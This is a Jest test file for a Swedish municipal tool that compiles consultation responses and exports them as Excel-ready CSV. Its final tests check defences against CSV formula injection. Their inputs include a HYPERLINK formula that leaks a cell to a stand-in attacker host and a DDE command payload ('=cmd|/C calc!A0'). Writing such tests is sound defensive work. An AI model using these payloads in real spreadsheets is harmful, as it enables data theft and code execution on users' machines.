import { describe, expect, it } from '@jest/globals';
import { compileSammanstallning, CSV_KOLUMNER, sammanstallningCsv } from './sammanstallning';
import { InstansRad, SynpunktRad } from './sammanstallning.repository';

const huvud = {
  brevhuvud: { kommun: 'enkoping', enhet: 'Kommunstyrelsen' },
  datum: '2025-06-01',
  diarienummer: 'KS2025/118',
  arendemening: 'Förslag till policy för digital omställning',
};
let nasta = 0;
const INSTANS_ID: Record<string, string> = {
  Utbildningsnämnden: 'i-un',
  Socialnämnden: 'i-sn',
  'Tekniska nämnden': 'i-tn',
  'Region Uppsala': 'i-ru',
  'Kultur- och fritidsnämnden': 'i-kfn',
};
const rad = (r: Partial<SynpunktRad>): SynpunktRad => ({
  id: `s-${++nasta}`,
  instansId: INSTANS_ID[r.instans ?? 'Utbildningsnämnden'] ?? 'i-x',
  instans: 'Utbildningsnämnden',
  citatinledning: null,
  typ: 'ovrigt',
  rubrik: null,
  text: 'Text',
  citat: null,
  sida: null,
  strykText: null,
  nyText: null,
  fotnoter: [],
  handling: null,
  handlingOrdning: null,
  ...r,
});
const instans = (namn: string, status: InstansRad['status'], r: Partial<InstansRad> = {}): InstansRad => ({
  id: INSTANS_ID[namn],
  namn,
  status,
  diarienummer: null,
  svarsdatum: '2025-05-15',
  anstandOrsak: null,
  anstand: false,
  avstarMotivering: null,
  externSvarsfil: false,
  svarInkomDatum: null,
  stallning: null,
  fragesvar: [],
  ...r,
});

describe('remissammanställning', () => {
  const synpunkter = [
    rad({
      typ: 'invandning',
      citat: 'Att genomföra pilotstudier …',
      sida: 5,
      handling: 'Policy',
      handlingOrdning: 1,
      rubrik: 'Pilotstudier',
      text: 'För kategoriskt.',
      fotnoter: ['Se protokollet.', 'Bilaga 2.'],
    }),
    rad({
      typ: 'andringsforslag',
      citat: 'Varje nämnd och styrelse ska …',
      sida: 5,
      handling: 'Policy',
      handlingOrdning: 1,
      text: 'Omformulera.',
      strykText: 'lämpligast',
      nyText: 'till exempel',
    }),
    rad({
      instans: 'Socialnämnden',
      typ: 'medhall',
      citat: 'Vi drar erfarenhet',
      sida: 5,
      handling: 'Policy',
      handlingOrdning: 1,
    }),
    rad({ typ: 'medhall', citat: 'Inledning', sida: 7, handling: 'Policy', handlingOrdning: 1 }),
    rad({ typ: 'ovrigt', text: 'Allmänt; "bra"' }),
  ];
  const instanser = [
    instans('Kultur- och fritidsnämnden', 'under_beredning', {
      svarsdatum: '2025-06-15',
      anstand: true,
      anstandOrsak: 'Sammanträde i juni.',
    }),
    instans('Region Uppsala', 'besvarad', { externSvarsfil: true, diarienummer: 'RS 2025-0042' }),
    instans('Socialnämnden', 'besvarad', {
      diarienummer: 'SN2025/77',
      stallning: 'tillstyrker',
      fragesvar: [{ fraga: 1, text: 'Ja.' }],
    }),
    instans('Tekniska nämnden', 'avstar', { avstarMotivering: 'Berör inte nämnden.' }),
    instans('Utbildningsnämnden', 'besvarad', {
      diarienummer: 'UN2025/412',
      stallning: 'tillstyrker_med_andringar',
      fragesvar: [{ fraga: 1, text: 'Ja, med ändringar.' }],
    }),
  ];
  const fragor = [
    { nummer: 1, text: 'Är inriktningen rimlig?' },
    { nummer: 2, text: 'Saknas något?' },
  ];
  const doc = compileSammanstallning(huvud, synpunkter, instanser, fragor, [
    {
      synpunktId: 's-2',
      version: 2,
      beslut: 'beaktas_inte',
      motivering: '=Policyn behåller planeringskravet.',
      av: 'Anna Andersson',
      createdAt: new Date('2025-06-02T08:00:00Z'),
    },
  ]);

  it('groups synpunkter by handling and page, with counts per kind and the current ställningstagande', () => {
    expect(doc.avsnitt.map((a) => [a.handling, a.sida, a.synpunkter.length])).toEqual([
      ['Policy', 5, 3],
      ['Policy', 7, 1],
    ]);
    expect(doc.avsnitt[0].antalPerTyp).toEqual({ medhall: 1, invandning: 1, andringsforslag: 1, ovrigt: 0 });
    expect(doc.avsnitt[0].synpunkter[1]).toMatchObject({
      id: 's-2',
      instans: 'Utbildningsnämnden',
      diarienummer: 'UN2025/412',
      citat: { text: 'Varje nämnd och styrelse ska …', sida: 5, handling: 'Policy' },
      stryk: 'lämpligast',
      ersattMed: 'till exempel',
      stallningstagande: { beslut: 'beaktas_inte', version: 2, av: 'Anna Andersson' },
    });
  });

  it('lists answers without reference, external PDF answers, declined with their reason, anstånd and not answered', () => {
    expect(doc.utanHanvisning.map((s) => [s.instans, s.diarienummer])).toEqual([
      ['Utbildningsnämnden', 'UN2025/412'],
      ['Region Uppsala', 'RS 2025-0042'],
    ]);
    // The note on a PDF answer is no synpunkt: nothing to take a position on.
    expect(doc.utanHanvisning[1].id).toBeUndefined();
    expect(doc.utanHanvisning[1].text).toBe(
      'Svaret lämnades som PDF via personlig länk och är registrerat som inkommande handling i ärendet.',
    );
    expect(doc.avstod).toEqual(['Tekniska nämnden']);
    expect(doc.instanser.find((i) => i.namn === 'Tekniska nämnden')?.avstarMotivering).toBe('Berör inte nämnden.');
    expect(doc.instanser.find((i) => i.namn === 'Kultur- och fritidsnämnden')?.anstand).toEqual({
      svarsdatum: '2025-06-15',
      orsak: 'Sammanträde i juni.',
    });
    expect(doc.ejSvarat).toEqual(['Kultur- och fritidsnämnden']);
  });

  it('says of a PDF answer registered from post or e-mail when it came in, not that it came through a link', () => {
    const postat = compileSammanstallning(
      huvud,
      [],
      [instans('Region Uppsala', 'besvarad', { externSvarsfil: true, svarInkomDatum: '2025-05-12' })],
      [],
    );
    expect(postat.utanHanvisning.map((s) => s.text)).toEqual([
      'Svaret kom in 2025-05-12 per post eller e-post och är registrerat som inkommande handling i ärendet.',
    ]);
  });

  it('lists the answers per fråga across instanser and counts the positions, declining too', () => {
    expect(doc.fragor).toEqual([
      {
        nummer: 1,
        fraga: 'Är inriktningen rimlig?',
        svar: [
          { instans: 'Socialnämnden', text: 'Ja.' },
          { instans: 'Utbildningsnämnden', text: 'Ja, med ändringar.' },
        ],
      },
      { nummer: 2, fraga: 'Saknas något?', svar: [] },
    ]);
    expect(doc.antalPerStallning).toEqual({
      tillstyrker: 1,
      tillstyrker_med_andringar: 1,
      avstyrker: 0,
      inga_synpunkter: 0,
      avstar: 1,
      // Region Uppsala's answer is a PDF: answered, with no position of its own to count.
      ej_angiven: 1,
    });
  });

  it('narrows to one kind and one instans; the counts stay those of the remiss', () => {
    const urval = compileSammanstallning(huvud, synpunkter, instanser, fragor, [], {
      typ: 'medhall',
      instans: 'i-sn',
    });
    expect(urval.avsnitt.flatMap((a) => a.synpunkter.map((s) => [s.instans, s.typ]))).toEqual([
      ['Socialnämnden', 'medhall'],
    ]);
    expect(urval.utanHanvisning).toEqual([]);
    expect(urval.fragor[0].svar).toEqual([{ instans: 'Socialnämnden', text: 'Ja.' }]);
    expect(urval.antalPerStallning.tillstyrker_med_andringar).toBe(1);
  });

  it('writes CSV for Swedish Excel: BOM, semicolons, quoted cells, å ä ö; dnr, kind, rubrik, footnotes, ställningstagande', () => {
    const csv = sammanstallningCsv(doc);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe(CSV_KOLUMNER.join(';'));
    expect(lines[1]).toBe(
      'Policy;5;Utbildningsnämnden;UN2025/412;Invändning;Pilotstudier;Att genomföra pilotstudier …;För kategoriskt.;;;"[1] Se protokollet.\n[2] Bilaga 2.";;;;;s-1',
    );
    // A motivering starting with = is a formula to Excel: written as text.
    expect(lines[2]).toBe(
      `Policy;5;Utbildningsnämnden;UN2025/412;Ändringsförslag;;Varje nämnd och styrelse ska …;Omformulera.;lämpligast;till exempel;;beaktas inte;"'=Policyn behåller planeringskravet.";Anna Andersson;2025-06-02;s-2`,
    );
    expect(lines).toContain(';;Utbildningsnämnden;UN2025/412;Övrigt;;;"Allmänt; ""bra""";;;;;;;;s-5');
    expect(lines).toContain(';;Socialnämnden;SN2025/77;Svar på fråga 1;;Är inriktningen rimlig?;Ja.;;;;;;;;');
    expect(lines).toContain(';;Utbildningsnämnden;UN2025/412;Ställning;;;tillstyrker med ändringar;;;;;;;;');
    expect(lines).toContain(';;Tekniska nämnden;;Avstår;;;Berör inte nämnden.;;;;;;;;');
    expect(lines).toContain(
      ';;Kultur- och fritidsnämnden;;Anstånd;;;Svarsdatum 2025-06-15: Sammanträde i juni.;;;;;;;;',
    );
  });

  it.each([
    [
      '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
      `"'=HYPERLINK(""https://angripare.example/?d=""&A1;""Klicka här"")"`,
    ],
    ['+46 171 625 00', `"'+46 171 625 00"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])(
    'writes text that a spreadsheet would run as a formula (%j) as text: a leading quote, quoted',
    (text, expected) => {
      const farlig = compileSammanstallning(
        huvud,
        [rad({ id: 'x', instans: '=cmd|/C calc!A0', text, strykText: '=1+1', rubrik: '@rubrik' })],
        [],
        [],
      );
      const lines = sammanstallningCsv(farlig).toString('utf8').slice(1).split('\r\n');
      expect(lines[1]).toBe(`;;"'=cmd|/C calc!A0";;Övrigt;"'@rubrik";;${expected};"'=1+1";;;;;;;x`);
    },
  );

  it('leaves text that only contains those characters, and numbers, as they are', () => {
    const vanlig = compileSammanstallning(
      huvud,
      [
        rad({
          id: 'y',
          text: 'Mejla a@b.se eller ring 0171-625 00 = snabbast',
          sida: 3,
          handling: 'Policy',
          handlingOrdning: 1,
        }),
      ],
      [],
      [],
    );
    expect(sammanstallningCsv(vanlig).toString('utf8').slice(1).split('\r\n')[1]).toBe(
      'Policy;3;Utbildningsnämnden;;Övrigt;;;Mejla a@b.se eller ring 0171-625 00 = snabbast;;;;;;;;y',
    );
  });
});
